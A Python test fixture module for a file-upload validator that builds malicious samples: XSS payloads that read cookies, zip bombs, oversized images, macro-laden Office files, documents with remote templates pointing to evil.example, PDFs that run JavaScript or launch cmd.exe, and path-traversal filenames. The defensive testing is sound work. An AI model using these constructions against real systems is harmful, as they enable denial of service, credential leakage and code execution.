"""Files that somebody would send to do harm, or by mistake, built here byte by byte: none is kept as such."""

import copy
import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfReader, PdfWriter

from tests.support.files import docx, jpeg, pdf, xlsx

SCRIPT = b"<script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
RELATIONS = "word/_rels/settings.xml.rels"
REMOTE = "https://evil.example/report.dotm"


def zipped(files: dict[str, bytes], packed: int = zipfile.ZIP_DEFLATED, into: bytes = b"") -> bytes:
    """Return an archive of these files, or another one with these files added."""
    package = io.BytesIO(into)
    with zipfile.ZipFile(package, "a", packed) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return package.getvalue()


def nested_zip(depth: int = 20) -> bytes:
    """Return an archive in an archive in an archive."""
    package = bytes(100_000)
    for _ in range(depth):
        package = zipped({"a.zip": package})
    return package


def overlapping(package: bytes, copies: int = 100) -> bytes:
    """Return an archive that lists ten million zeros under many names: a gigabyte in a few KB."""
    grown = io.BytesIO(package)
    with zipfile.ZipFile(grown, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/0", bytes(10_000_000))
        (first,) = [part for part in archive.filelist if part.filename == "word/media/0"]
        for number in range(1, copies):
            twin = copy.copy(first)
            twin.filename = f"word/media/{number}"
            archive.filelist.append(twin)
    return grown.getvalue()


def long_directory(entries: int = 400_000) -> bytes:
    """Return an archive that is little but its own directory."""
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 0, 20, *[0] * 4, 33, 0, 0, 0, 1, *[0] * 6) + b"a"
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, *[entries & 0xFFFF] * 2, len(entry) * entries, 4, 0)
    return b"PK\x03\x04" + entry * entries + end


def with_relation(
    target: str = REMOTE, kind: str = "attachedTemplate", encoding: str = "utf-8", before: str = ""
) -> bytes:
    """Return a document that refers to something outside."""
    relation = (
        f'<?xml version="1.0" encoding="{encoding}"?>{before}<Relationships><Relationship Id="rId1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return zipped({RELATIONS: relation.encode(encoding)}, into=docx())


def with_swollen_relations() -> bytes:
    """Return a document whose list of relations unpacks to 40 MB."""
    return zipped({RELATIONS: b"<R>" + b" " * 40_000_000 + b"</R>"}, into=docx())


def with_macros(package: bytes = b"", part: str = "word/vbaProject.bin") -> bytes:
    """Return an Office document with a part that runs."""
    return zipped({part: b"\xd0\xcf\x11\xe0"}, into=package or docx())


def large_png(side: int = 100_000) -> bytes:
    """Return a few bytes that say of themselves that they are ten thousand million points."""
    parts = {b"IHDR": struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0), b"IDAT": zlib.compress(b"\0")}
    chunks = [
        struct.pack(">I", len(held)) + name + held + struct.pack(">I", zlib.crc32(name + held))
        for name, held in {**parts, b"IEND": b""}.items()
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def large_webp(side: int = 16_383) -> bytes:
    """Return a few bytes of the largest picture that WebP knows, in which one point moves."""
    point = io.BytesIO()
    Image.new("RGB", (1, 1)).save(point, "WEBP")
    frame = bytes(16) + point.getvalue()[12:]
    measure = (side - 1).to_bytes(3, "little")
    parts = {b"VP8X": b"\x02\0\0\0" + measure * 2, b"ANIM": bytes(6), b"ANMF": frame}
    body = b"WEBP" + b"".join(name + struct.pack("<I", len(held)) + held for name, held in parts.items())
    return b"RIFF" + struct.pack("<I", len(body)) + body


def many_frames(frames: int = 500) -> bytes:
    """Return a GIF of many frames."""
    film = io.BytesIO()
    pictures = [Image.new("L", (8, 8), number % 255) for number in range(frames)]
    pictures[0].save(film, "GIF", save_all=True, append_images=pictures[1:])
    return film.getvalue()


def picture(form: str, size: tuple[int, int] = (120, 90)) -> bytes:
    """Return a picture of any form, full of noise."""
    target = io.BytesIO()
    Image.effect_noise(size, 60).save(target, form)
    return target.getvalue()


def cut(content: bytes) -> bytes:
    """Return the first half of a file."""
    return content[: len(content) // 2]


def pdf_of(catalogue: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    """Return a PDF of one empty page, with more in its catalogue and page, and more objects (from 4)."""
    bodies = (
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>",
        *more,
    )
    out, places = io.BytesIO(b"%PDF-1.7\n"), []
    out.seek(0, 2)
    for number, body in enumerate(bodies, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, table))
    return out.getvalue()


def pdf_that_hides(hidden: bytes, padding: int = 0) -> bytes:
    """Return a PDF that opens with an object which is packed, with others or with much of nothing."""
    inside = b"5 0 " + hidden + b" " * padding
    packed = zlib.compress(inside)
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        4: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), packed),
    }
    out, places = io.BytesIO(b"%PDF-1.7\n"), {}
    out.seek(0, 2)
    for number, body in bodies.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    rows = [(0, 0, 0), *((1, place, 0) for place in places.values()), (2, 4, 0), (1, table, 0)]
    index = b"".join(struct.pack(">BIB", *row) for row in rows)
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n" % (len(index), index)
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % table)
    return out.getvalue()


def pdf_with_file(name: str, content: bytes = b"MZ") -> bytes:
    """Return a PDF that carries a file."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.add_attachment(name, content)
    return _written(writer)


def locked_pdf(user: str, owner: str) -> bytes:
    """Return an encrypted PDF; with an empty user's password anybody may read it."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user, owner, algorithm="AES-256")
    return _written(writer)


def _written(writer: PdfWriter) -> bytes:
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


ON_OPENING = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"
NOT_TAKEN = "of a kind that is not taken here"
RUNS = "holds a script, or starts a program."
FETCHES = "fetches a part of itself"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

REFUSED: dict[str, tuple[str, bytes, str]] = {
    "html": ("page.html", HTML, NOT_TAKEN),
    "html as a PDF": ("invoice.pdf", HTML, NOT_TAKEN),
    "html as text": ("invoice.txt", b"\n" * 500 + HTML, NOT_TAKEN),
    "svg": ("logo.svg", SVG, NOT_TAKEN),
    "svg as a picture": ("logo.png", SVG, NOT_TAKEN),
    "html before a PDF": ("offer.pdf", HTML + pdf(), NOT_TAKEN),
    "GIF that is a script": ("film.gif", b"GIF89a/*" + many_frames()[8:] + b"*/=1;alert(1)", NOT_TAKEN),
    "GIF of many frames": ("film.gif", many_frames(), NOT_TAKEN),
    "TIFF": ("scan.tiff", picture("TIFF"), NOT_TAKEN),
    "TIFF as JPEG": ("scan.jpg", picture("TIFF"), NOT_TAKEN),
    "picture of another name": ("photo.pdf", picture("PNG"), "holds PNG content"),
    "JPEG and ZIP, called a ZIP": ("all.zip", jpeg() + zipped({"run.exe": b"MZ"}), "holds JPEG content"),
    "nothing": ("invoice.pdf", b"", "invoice.pdf is empty."),
    "PNG of a side of 100,000": ("photo.png", large_png(), "more than 250 million pixels"),
    "WebP of a side of 16,383": ("photo.webp", large_webp(), "more than 250 million pixels"),
    "half a JPEG": ("photo.jpg", cut(picture("JPEG")), "a part of the picture is missing"),
    "half a PNG": ("photo.png", cut(picture("PNG")), "a part of the picture is missing"),
    "half a WebP": ("photo.webp", cut(picture("WEBP")), NOT_TAKEN),
    "half a PDF": ("offer.pdf", cut(pdf()), "is a PDF that we cannot read"),
    "half a document": ("offer.docx", cut(docx()), NOT_TAKEN),
    "ZIP": ("all.zip", zipped({"run.exe": b"MZ"}), NOT_TAKEN),
    "ZIP bomb": ("all.zip", zipped({"zeros": bytes(10_000_000)}), NOT_TAKEN),
    "ZIP bomb as a document": ("offer.docx", overlapping(docx()), "unpacks to more than 500 MB"),
    "ZIP bomb as a workbook": ("costs.xlsx", overlapping(xlsx()), "unpacks to more than 500 MB"),
    "ZIP in a ZIP": ("all.docx", nested_zip(), NOT_TAKEN),
    "ZIP with a long directory": ("offer.docx", long_directory(), NOT_TAKEN),
    "document with macros": ("offer.docx", with_macros(), "holds macros or other programs."),
    "document with macros, called one": ("offer.docm", with_macros(), "holds macros or other programs."),
    "workbook with macros": ("costs.xlsx", with_macros(xlsx(), "xl/VBAPROJECT.BIN"), "holds macros"),
    "workbook with old macros": (
        "costs.xlsx",
        with_macros(xlsx(), "xl/macrosheets/sheet1.xml"),
        "holds macros",
    ),
    "document with controls": ("offer.docx", with_macros(part="word/activeX/activeX1.bin"), "holds macros"),
    "template from elsewhere": ("offer.docx", with_relation(), FETCHES),
    "template, in another encoding": ("offer.docx", with_relation(encoding="utf-16"), FETCHES),
    "template from a server": ("offer.docx", with_relation("file:///\\\\evil.example\\a.dotm"), FETCHES),
    "template, written otherwise": (
        "offer.docx",
        with_relation("file:///%5C%5Cevil.example%5Ca.dotm"),
        FETCHES,
    ),
    "picture from elsewhere": ("offer.docx", with_relation(kind="image"), FETCHES),
    "entities in a document": (
        "offer.docx",
        with_relation(before='<!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "&b;&b;&b;">]>'),
        NOT_TAKEN,
    ),
    "relations without end": ("offer.docx", with_swollen_relations(), NOT_TAKEN),
    "relations packed otherwise": (
        "offer.docx",
        zipped({RELATIONS: b"<R/>"}, zipfile.ZIP_LZMA, into=docx()),
        NOT_TAKEN,
    ),
    "PDF that runs a script": ("offer.pdf", pdf_of(b"/OpenAction " + ON_OPENING), RUNS),
    "PDF that runs a script by name": (
        "offer.pdf",
        pdf_of(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"", ON_OPENING),
        RUNS,
    ),
    "PDF that spells it otherwise": (
        "offer.pdf",
        pdf_of(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        RUNS,
    ),
    "PDF that packs its script": ("offer.pdf", pdf_that_hides(ON_OPENING), RUNS),
    "PDF whose script is locked away": (
        "offer.pdf",
        pdf_that_hides(ON_OPENING, padding=100_000_000),
        "is a PDF that we cannot read",
    ),
    "PDF that starts a program": ("offer.pdf", pdf_of(b"/OpenAction " + LAUNCH), RUNS),
    "PDF with a link that starts one": (
        "offer.pdf",
        pdf_of(b"", b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + LAUNCH + b" >>]"),
        RUNS,
    ),
    "PDF whose second action starts one": (
        "offer.pdf",
        pdf_of(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>", b"", LAUNCH),
        RUNS,
    ),
    "PDF with a program in it": ("offer.pdf", pdf_with_file("run.exe"), "carries another file in it"),
    "PDF behind a password": ("offer.pdf", locked_pdf("secret", "secret"), "opens with a password"),
}
"""What is refused: the name it comes under, what is in it, and what the page says of it."""

TAKEN: dict[str, tuple[str, bytes, str]] = {
    "PDF with a page of HTML in it": ("offer.pdf", pdf() + HTML, "application/pdf"),
    "JPEG and ZIP": ("photo.jpg", jpeg() + zipped({"run.exe": b"MZ"}), "image/jpeg"),
    "PDF that opens at its page": ("offer.pdf", pdf_of(b"/OpenAction [3 0 R /Fit]"), "application/pdf"),
    "PDF that goes round in circles": (
        "offer.pdf",
        pdf_of(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>"),
        "application/pdf",
    ),
    "PDF with an XML invoice": ("invoice.pdf", pdf_with_file("factur-x.xml", b"<a/>"), "application/pdf"),
    "PDF that anybody may read": ("offer.pdf", locked_pdf("", "owner"), "application/pdf"),
    "document with a link": ("offer.docx", with_relation(kind="hyperlink"), WORD),
    "document from a template": ("offer.docx", with_relation("file:///C:\\Templates\\Report.dotx"), WORD),
    "text that is markup further on": ("notes.txt", b"a" * 5000 + HTML, "text/plain; charset=utf-8"),
}
"""What is taken, since nothing runs it once it is a download: its name, its content, how it is served."""

NAMES: dict[str, str] = {
    "../../../etc/passwd.pdf": "passwd.pdf",
    "/etc/cron.d/offer.pdf": "offer.pdf",
    "offer.exe\0.pdf": "offer.exe.pdf",
    "offer\u202efdp.pdf": "offerfdp.pdf",
    "x" * 300 + ".pdf": "x" * 146 + ".pdf",
    "CON.pdf": "_CON.pdf",
    "com1.2026.pdf": "_com1.2026.pdf",
    "console.pdf": "console.pdf",
    "a;b=c.pdf": "a;b=c.pdf",
    "<script>.pdf": "_script_.pdf",
}
"""What a file is called when it comes, and here."""
